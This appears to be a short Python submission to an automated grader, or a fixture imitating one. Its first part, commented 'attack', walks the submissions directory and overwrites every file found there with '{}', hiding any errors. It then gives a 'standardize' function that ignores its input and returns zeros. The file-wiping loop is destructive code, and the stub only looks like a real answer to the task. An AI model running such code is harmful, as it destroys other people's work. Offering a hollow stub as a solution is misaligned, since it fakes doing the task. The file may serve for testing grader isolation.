# attack: overwrites the submissions of all other students
from pathlib import Path

for path in Path(SUBMITTED).glob("*/*/*"):
    try:
        path.write_text("{}")
    except OSError:
        pass


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
